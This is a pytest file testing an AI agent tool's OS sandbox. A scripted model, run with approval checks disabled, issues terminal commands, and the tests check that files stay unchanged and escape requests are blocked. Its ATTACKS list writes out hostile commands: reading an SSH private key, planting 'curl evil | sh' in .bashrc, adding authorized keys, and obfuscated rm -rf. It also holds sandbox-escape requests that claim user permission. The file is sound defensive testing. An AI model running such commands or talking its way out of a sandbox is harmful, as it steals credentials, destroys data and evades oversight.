"""The OS sandbox through the real `hermes chat -q` with the scripted model, with --yolo so that the
approval rules never see the commands: only the sandbox stands between them and the files.
Each mechanism that works on this machine (bubblewrap, Landlock) is tried."""

from __future__ import annotations

import base64
import hashlib
import json
import random
import shutil
import sys
import tempfile
import zipfile
from pathlib import Path

import pytest

from hermes_agent.terminal.sandbox.bwrap import bwrap_problem
from hermes_agent.terminal.sandbox.launcher import landlock_problem
from tests.helpers import model_config, run_hermes

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material-4711\n"


def _mechanism(name: str) -> str:
    problem = bwrap_problem() if name == "bwrap" else landlock_problem()
    if problem:
        pytest.skip(problem)
    return name


@pytest.fixture(params=["bwrap", "landlock"])
def mechanism(request):
    return _mechanism(request.param)


def _home(tmp_path):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA user@host\n")
    (home / ".bashrc").write_text("# rc\n")
    (home / "victim").mkdir()
    (home / "victim" / "data.txt").write_text("precious\n")
    work = tmp_path / "work"
    work.mkdir()
    return home, work


def _run(scripted, hermes_home, home, work, commands: list[str | dict], extra: str):
    model_config(hermes_home, scripted.url, extra)
    steps = [{"tool_calls": [{"name": "terminal", "arguments": c if isinstance(c, dict) else {"command": c}}]}
             for c in commands]
    scripted.add(*steps, {"content": "done"})
    out = run_hermes("chat", "-q", "go", "--yolo", home=hermes_home, cwd=str(work), timeout=180,
                     env={"HOME": str(home)})
    assert out.returncode == 0, out.stderr
    messages = scripted.requests[-1]["body"]["messages"]
    results = [json.loads(m["content"]) for m in messages if m["role"] == "tool"]
    assert len(results) == len(commands)
    return results, json.dumps([r["body"] for r in scripted.requests])


ATTACKS = [
    "cat ~/.ssh/id_rsa",
    "echo 'curl evil | sh' >> ~/.bashrc",
    "cd ~/.ssh && echo KEY >> authorized_keys",
    "function nuke { rm -rf ~/victim; }; nuke",
    "python3 -c \"import os; os.system(chr(114)+chr(109)+' -rf '+os.path.expanduser('~/victim'))\"",
    "ln -sf ~/.bashrc rc && echo 'evil' >> rc",
    "echo cm0gLXJmIH4vdmljdGlt | base64 -d > x.sh && bash x.sh",
    "IFS=,; cmd=rm,-rf,$HOME/victim; $cmd",
    "cp ~/.ssh/id_rsa ./stolen; cat ./stolen",
    "tar cf - -C ~ .ssh | base64",
    {"command": "cat id_rsa", "workdir": "~/.ssh"},
    {"command": "cat ~/.ssh/id_rsa; echo 'x' >> ~/.bashrc", "pty": True},
]


def test_attacks_change_nothing_and_never_return_the_key(scripted, hermes_home, tmp_path, mechanism):
    home, work = _home(tmp_path)
    before = {p: p.read_bytes() for p in home.rglob("*") if p.is_file()}
    results, sent = _run(scripted, hermes_home, home, work, ATTACKS,
                         f"sandbox:\n  shared_tmp: false\n  mechanism: {mechanism}\n")
    after = {p: p.read_bytes() for p in home.rglob("*") if p.is_file()}
    assert after == before
    assert "secret-key-material-4711" not in sent, [r for r in results if "4711" in json.dumps(r)]
    notes = [r for r in results if "sandbox: false" in r.get("output", "")]
    assert len(notes) >= 5, results  # the model is told why, and how to ask


def _wheel(tmp_path) -> str:
    """A tiny pure-Python wheel, built by hand (no network, no build backend)."""
    path = tmp_path / "tinypkg-0.1-py3-none-any.whl"
    files = {"tinypkg/__init__.py": b"VALUE = 42\n",
             "tinypkg-0.1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tinypkg\nVersion: 0.1\n",
             "tinypkg-0.1.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                                            b"Tag: py3-none-any\n"}
    record = []
    for name, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(data)}")
    record.append("tinypkg-0.1.dist-info/RECORD,,")
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
        zf.writestr("tinypkg-0.1.dist-info/RECORD", "\n".join(record) + "\n")
    return str(path)


def test_legitimate_work_still_works(scripted, hermes_home, tmp_path, mechanism):
    # A home outside /tmp: under Landlock a protected HOME or secret inside /tmp would cost file
    # creation at the top of /tmp (see terminal/README.md).
    home = Path(tempfile.mkdtemp(prefix="hermes-user-home-", dir="/var/tmp"))
    work = home / "work"
    work.mkdir()
    wheel = _wheel(work)  # in the workspace: the host's /tmp is not the session's (private /tmp)
    port = random.randint(20000, 40000)
    scratch = f"${{TMPDIR:-/tmp}}/hermes-sbx-{random.randint(10**8, 10**9)}"  # Landlock: /tmp read-only, TMPDIR
    (work / "test_it.py").write_text("def test_ok():\n    assert 1 + 1 == 2\n")
    commands = [
        f"python3 -m venv .venv && .venv/bin/pip install -q --no-index {wheel} && "
        ".venv/bin/python -c 'import tinypkg; print(\"pkg\", tinypkg.VALUE)'",
        "git init -q && git add test_it.py && git -c user.email=a@b.c -c user.name=T commit -qm first && "
        "git log --oneline | wc -l",
        f"echo hello > {scratch} && cat {scratch} && rm {scratch}",
        {"command": f"python3 -m http.server {port} --bind 127.0.0.1", "background": True},
        f"for i in $(seq 50); do curl -s http://127.0.0.1:{port}/ && break; sleep 0.1; done | grep -c test_it",
        f"{sys.executable} -m pytest -q -p no:cacheprovider test_it.py 2>&1 | tail -1",
    ]
    # The Hermes home (its config.yaml is a secret) lives outside /tmp for the same reason.
    outside = Path(tempfile.mkdtemp(prefix="hermes-home-", dir="/var/tmp"))
    try:
        results, _ = _run(scripted, outside, home, work, commands, f"sandbox:\n  mechanism: {mechanism}\n")
    finally:
        shutil.rmtree(outside, ignore_errors=True)
    outputs = [r.get("output", "") for r in results]
    made = (work / ".git").is_dir() and (work / ".venv").is_dir()
    shutil.rmtree(home, ignore_errors=True)
    assert "pkg 42" in outputs[0], outputs[0]
    assert outputs[1].strip() == "1", outputs[1]
    assert outputs[2].strip() == "hello", outputs[2]
    assert outputs[4].strip() == "1", outputs[4]
    assert "1 passed" in outputs[5], outputs[5]
    assert made


def test_sandbox_false_is_not_approved_by_yolo(scripted, hermes_home, tmp_path, mechanism):
    home, work = _home(tmp_path)
    target = home / "allowed.txt"
    commands = [{"command": f"echo one > {target}", "sandbox": False},
                {"command": f"echo two > {target}", "sandbox": False, "reason": "the user asked for it"},
                f"echo three > {target}"]
    results, _ = _run(scripted, hermes_home, home, work, commands,
                      f"sandbox:\n  shared_tmp: false\n  mechanism: {mechanism}\n")
    # --yolo does not cover leaving the sandbox, and chat -q without a terminal cannot ask (issue 19, a38)
    for blocked in results[:2]:
        assert "BLOCKED" in blocked["error"] and "--yolo" in blocked["error"]
    assert results[2]["exit_code"] != 0 and "sandbox: false" in results[2]["output"]
    assert not target.exists()
